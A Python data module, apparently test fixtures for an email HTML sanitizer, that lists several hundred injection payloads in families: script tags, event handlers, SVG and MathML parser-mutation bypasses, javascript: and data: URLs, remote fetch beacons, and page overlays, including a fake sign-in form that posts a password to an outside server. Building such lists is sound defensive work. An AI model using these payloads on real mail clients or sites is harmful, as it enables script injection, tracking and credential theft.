"""What people put into the HTML of letters to have it run, fetch something, or change what is around it.

`JS` stands for a script that tells that it ran, `OUT` for the address of a server outside. Written by us, from what
standards say a browser does.
"""

from __future__ import annotations

SCRIPTS = {
    "plain": "<script>JS</script>",
    "upper case": "<SCRIPT>JS</SCRIPT>",
    "slash in the tag": "<script/x>JS</script>",
    "line in the tag": "<script\n>JS</script\n>",
    "from outside": "<script src=OUT/x.js></script>",
    "module": "<script type=module>JS</script>",
    "never closed": "<script>JS",
    "split by itself": "<scr<script>ipt>JS</scr</script>ipt>",
    "behind a broken comment": "<!--><script>JS</script>-->",
    "behind a comment with bang": "<!-- --!><script>JS</script> -->",
    "in a comment never closed": "<!-- <p><script>JS</script>",
    "in a conditional comment": "<!--[if gte mso 9]><script>JS</script><![endif]-->",
    "in a revealed conditional": "<![if !mso]><script>JS</script><![endif]>",
    "in CDATA": "<![CDATA[<script>JS</script>]]>",
    "in a processing instruction": "<?xml version='1'?><script>JS</script>",
    "NUL in the name": "<scr\0ipt>JS</scr\0ipt>",
    "UTF-7": "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-",
    "full-width signs": "\uff1cscript\uff1eJS\uff1c/script\uff1e",
    "after head": "<head><script>JS</script></head><body>x",
    "in the title": "<title><script>JS</script></title>",
    "out of the title": "<title></title><script>JS</script></title>",
    "out of a text area": "<textarea></textarea><script>JS</script></textarea>",
    "out of xmp": "<xmp></xmp><script>JS</script>",
    "in noscript": "<noscript><p title='</noscript><script>JS</script>'></noscript>",
    "in noembed": "<noembed><script>JS</script></noembed>",
    "in noframes": "<noframes><script>JS</script></noframes>",
    "in a template": "<template><script>JS</script></template>",
    "in a shadow root": "<div><template shadowrootmode=open><script>JS</script></template></div>",
    "plaintext": "<plaintext><script>JS</script>",
    "import map": '<script type=importmap>{"imports":{"x":"OUT/x.js"}}</script><script type=module>import "x"</script>',
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["OUT/p"]}]}</script>',
}
HANDLERS = {
    "image error": "<img src=x onerror=JS>",
    "image error quoted": '<img src="x" onerror="JS">',
    "slash before it": "<img/src=x/onerror=JS>",
    "upper case": "<IMG SRC=x ONERROR=JS>",
    "vertical tab": "<img src=x\x0bonerror=JS>",
    "grave accents": "<img src=`x`onerror=JS>",
    "open quote": '<img src="x` `<script>JS</script>"` `>',
    "broken attribute": '<img alt="`><img src=x onerror=JS>`">',
    "angle in an attribute": '<p title="><img src=x onerror=JS>">x</p>',
    "end in a title": "<p title='</p><img src=x onerror=JS>'>x</p>",
    "entity in an attribute": "<p title='&quot;&gt;&lt;img src=x onerror=JS&gt;'>x</p>",
    "entities as text": "&lt;img src=x onerror=JS&gt;",
    "entities twice": "&amp;lt;img src=x onerror=JS&amp;gt;",
    "body load": "<body onload=JS>",
    "body page show": "<body onpageshow=JS>",
    "focus at once": "<input autofocus onfocus=JS>",
    "any element focused": "<p tabindex=1 autofocus onfocus=JS>x</p>",
    "details": "<details open ontoggle=JS>x</details>",
    "marquee": "<marquee onstart=JS>x</marquee>",
    "video source": "<video><source onerror=JS></video>",
    "audio": "<audio src=x onerror=JS></audio>",
    "object": "<object data=x onerror=JS></object>",
    "style load": "<style onload=JS></style>",
    "link error": "<link rel=stylesheet href=x onerror=JS>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=JS>x</p>",
    "transition": "<p style='transition:color 1s;color:red' ontransitionend=JS>x</p>",
    "popover": "<p popover id=x onbeforetoggle=JS>x</p><button popovertarget=x>y</button>",
    "scroll": "<p onscrollend=JS onscroll=JS>x</p>",
    "made-up element": "<x-y onclick=JS onpointerrawupdate=JS>x</x-y>",
    "visible at once": "<p style='content-visibility:auto' oncontentvisibilityautostatechange=JS>x</p>",
}
FOREIGN = {
    "svg load": "<svg onload=JS>",
    "svg script": "<svg><script>JS</script></svg>",
    "svg script href": "<svg><script href=OUT/x.js /></svg>",
    "svg script with entities": "<svg><script>&#97;lert(1);JS</script></svg>",
    "svg animates an address": (
        "<svg><a><animate attributeName=href values=javascript:JS /><text y=20"
        ">x</text></a></svg>"
    ),
    "svg begins": "<svg><animate onbegin=JS attributeName=x dur=1s /></svg>",
    "svg use": (
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/"
        "2000/svg><script>JS</script></svg>#x'/></svg>"
    ),
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>JS</script>'></iframe></foreignObject></svg>",
    "svg image": "<svg><image href=OUT/i.png /></svg>",
    "svg feImage": (
        "<svg><filter id=f><feImage href=OUT/i.png /></filter><rect filter=url"
        "(#f) width=9 height=9 /></svg>"
    ),
    "svg style": "<svg><style>*{background:url(OUT/s)}</style></svg>",
    "svg title breaks out": "<svg><title><img src=x onerror=JS></title></svg>",
    "svg paragraph style": "<svg></p><style><a id='</style><img src=1 onerror=JS>'>",
    "math style": "<math><style><img src=x onerror=JS></style></math>",
    "math link": "<math href=javascript:JS><mtext>x</mtext></math>",
    "math annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=JS></annotation-xml></math>",
    "math table mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;"
        "img src=1 onerror=JS&gt;'>"
    ),
    "form mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "comment mutation": (
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="
        "'</style><img src onerror=JS>'></style></h1>"
    ),
    "namespace by an attribute": (
        "<svg><desc><math><mi><b><style><img src=x onerror=JS></style></b></mi"
        "></math></desc></svg>"
    ),
    "CDATA in svg": "<svg><![CDATA[<image xlink:href='a' onload='JS'/>]]></svg>",
    "select in svg": "<svg><select><style></select><img src=x onerror=JS></style>",
    "noscript in svg": "<svg><noscript><style></noscript><img src=x onerror=JS></style></noscript></svg>",
    "xml island": "<xml><img src=x onerror=JS></xml>",
    "xhtml prefix": "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>JS</html:script>",
}  # fmt: skip
ADDRESSES = {
    "javascript image": "<img src=javascript:JS>",
    "javascript with a tab": "<img src='java\tscript:JS'><a href='jav&#x09;ascript:JS'>x</a>",
    "javascript with a line": "<a href='java&NewLine;script:JS'>x</a>",
    "javascript in entities": "<a href='&#106;&#97;vascript&colon;JS'>x</a>",
    "javascript after a sign": "<a href='\x01javascript:JS'>x</a>",
    "javascript frame": "<iframe src=javascript:JS></iframe>",
    "javascript form": "<form action=javascript:JS><button autofocus>x</button></form>",
    "javascript button": "<form><button formaction=javascript:JS>x</button></form>",
    "javascript base": "<base href=javascript:JS//><a href=#>x</a>",
    "javascript background": "<table background=javascript:JS><td>x</table>",
    "javascript low source": "<img lowsrc=javascript:JS dynsrc=javascript:JS>",
    "javascript refresh": "<meta http-equiv=refresh content='0;url=javascript:JS'>",
    "data frame": "<iframe src='data:text/html,<script>JS</script>'></iframe>",
    "data object": "<object data='data:text/html,<script>JS</script>'></object>",
    "data embed": "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=JS />'>",
    "data svg image": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"JS\"/>'>",
    "data link": "<a href='data:text/html,<script>JS</script>'>x</a>",
    "data refresh": "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>",
    "vbscript": "<a href=vbscript:JS>x</a>",
    "blob frame": "<iframe src=blob:OUT/x></iframe>",
    "source document": "<iframe srcdoc='<script>JS</script>'></iframe>",
    "our own sign-out": "<img src=/signout><iframe src=/today></iframe>",
    "drawn picture that is a page": "<img src='data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
}  # fmt: skip
FETCHES = {
    "image": "<img src=OUT/i.png>",
    "image without a scheme": "<img src=//HOST/i.png>",
    "source set": "<img srcset='OUT/1.png 1x, OUT/2.png 2x'>",
    "picture": "<picture><source srcset=OUT/p.png><img></picture>",
    "input image": "<input type=image src=OUT/i.png>",
    "video poster": "<video poster=OUT/v.png src=OUT/v.mp4 autoplay></video>",
    "audio source": "<audio autoplay><source src=OUT/a.mp3></audio>",
    "track": "<video><track default src=OUT/t.vtt></video>",
    "frame": "<iframe src=OUT/f></iframe>",
    "frame set": "<frameset><frame src=OUT/f></frameset>",
    "object": "<object data=OUT/o></object>",
    "embed": "<embed src=OUT/e>",
    "applet": "<applet code=OUT/a.class></applet>",
    "style sheet": "<link rel=stylesheet href=OUT/s.css>",
    "preload": "<link rel=preload as=image href=OUT/p.png>",
    "prefetch": "<link rel=prefetch href=OUT/p>",
    "module preload": "<link rel=modulepreload href=OUT/m.js>",
    "prerender": "<link rel=prerender href=OUT/p>",
    "name look-up": "<link rel=dns-prefetch href=OUT><link rel=preconnect href=OUT>",
    "icon": "<link rel=icon href=OUT/i.ico>",
    "manifest": "<link rel=manifest href=OUT/m.json>",
    "import": "<style>@import 'OUT/s.css';</style>",
    "import in an attribute": "<p style=\"@import 'OUT/s.css'\">x</p>",
    "background": "<p style='background:url(OUT/b.png)'>x</p>",
    "background escaped": r"<p style='background:\75rl(OUT/b.png)'>x</p>",
    "background split by a remark": "<p style='background:u/**/rl(OUT/b.png)'>x</p>",
    "background in entities": "<p style='background&#58;url&#40;OUT/b.png&#41;'>x</p>",
    "background never closed": "<p style='background:url(OUT/b.png'>x</p>",
    "background attribute": "<body background=OUT/b.png><table background=OUT/t.png><td background=OUT/d.png>x",
    "border image": "<p style='border-image:url(OUT/b.png) 1;border-width:1px;border-style:solid'>x</p>",
    "list picture": "<ul style='list-style:url(OUT/l.png)'><li style='list-style-image:url(OUT/l.png)'>x</ul>",
    "cursor": "<p style='cursor:url(OUT/c.cur),auto'>x</p>",
    "content": "<p style='content:url(OUT/c.png)'>x</p>",
    "image set": "<p style=\"background:image-set('OUT/i.png' 1x)\">x</p>",
    "cross-fade": '<p style="background:-webkit-cross-fade(url(OUT/c.png),url(OUT/d.png),50%)">x</p>',
    "mask": "<p style='mask:url(OUT/m.svg#m);filter:url(OUT/f.svg#f);clip-path:url(OUT/c.svg#c)'>x</p>",
    "shape": "<p style='float:left;shape-outside:url(OUT/s.png)'>x</p>",
    "font": "<style>@font-face{font-family:x;src:url(OUT/f.woff)}p{font-family:x}</style><p>x</p>",
    "font in the head": (
        "<head><style>@font-face{font-family:x;src:url(OUT/f.woff)}</style></h"
        "ead><p style='font-family:x'>x"
    ),
    "attributes read by styles": "<style>a[href^='h']{background:url(OUT/leak)}</style><a href=https://a.example>x</a>",
    "variable": "<p style='--x:url(OUT/v.png);background:var(--x)'>x</p>",
    "binding": "<p style='-moz-binding:url(OUT/b.xml#x);behavior:url(OUT/b.htc)'>x</p>",
    "refresh": "<meta http-equiv=refresh content='0;url=OUT/r'>",
    "refresh without a time": "<meta http-equiv=refresh content=';url=OUT/r'>",
    "ping": "<a href=https://a.example ping=OUT/ping>x</a>",
    "base": "<base href=OUT/><img src=relative.png>",
    "report of what is forbidden": (
        "<meta http-equiv=content-security-policy content=\"img-src 'none'; re"
        'port-uri OUT/csp">'
    ),
    "long description": "<img longdesc=OUT/l usemap=OUT/u src=x>",
    "portal": "<portal src=OUT/p></portal>",
    "fenced frame": "<fencedframe src=OUT/f></fencedframe>",
    "cited": "<blockquote cite=OUT/c>x</blockquote><del cite=OUT/d>y</del>",
}  # fmt: skip
AROUND = {
    "overlay": "<div style='position:fixed;inset:0;z-index:9;background:red'>Sign in again</div>",
    "overlay by a negative margin": "<div style='margin:-900px;width:9999px;height:9999px;background:red'>x</div>",
    "overlay by a transform": "<div style='transform:translate(-900px,-900px) scale(99)'>x</div>",
    "target of a base": "<base target=_top><a href=https://a.example>x</a>",
    "form": (
        "<form action=OUT/login method=post target=_top><input name=password><"
        "button autofocus>Sign in</button></form>"
    ),
    "form of others": "<button form=dial formaction=OUT/x>x</button><input form=dial name=x>",
    "names of ours": "<img id=live name=live><a id=dial name=body href=https://a.example>x</a><form id=sheet></form>",
    "names of the document": "<img name=cookie><img name=body><form name=querySelector><input name=attributes></form>",
    "htmx": "<div hx-get=OUT/h hx-trigger=load data-hx-get=OUT/h hx-on:load=JS>x</div>",
    "ours by attributes": "<p data-dialog=sheet data-live=contact data-src=OUT/l data-copy=#x>x</p>",
    "editable": "<p contenteditable autofocus accesskey=a spellcheck>x</p>",
    "dialog": "<dialog open style='position:fixed'>x</dialog>",
    "window name": "<iframe name=_top src=/today></iframe><a target=_parent href=/today>x</a>",
    "closed for us": "</div></section></iframe></body></html><script>JS</script><h1>x</h1>",
    "our classes": "<p class='toast banner late blocked leads'>x</p>",
    "right to left": "<p dir=rtl>&#8238;elpmaxe.knab//:sptth</p>",
    "unlimited table": "<table><td colspan=1000 rowspan=65534 width=99999999>x</table>",
    "microdata": "<meta name=referrer content=unsafe-url><meta name=viewport content=width=9999>",
    "slot": "<slot name=x></slot><p slot=x part=y is=z>x</p>",
}  # fmt: skip
FAMILIES = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "foreign": FOREIGN, "addresses": ADDRESSES, "fetches": FETCHES,
    "around": AROUND,
}  # fmt: skip
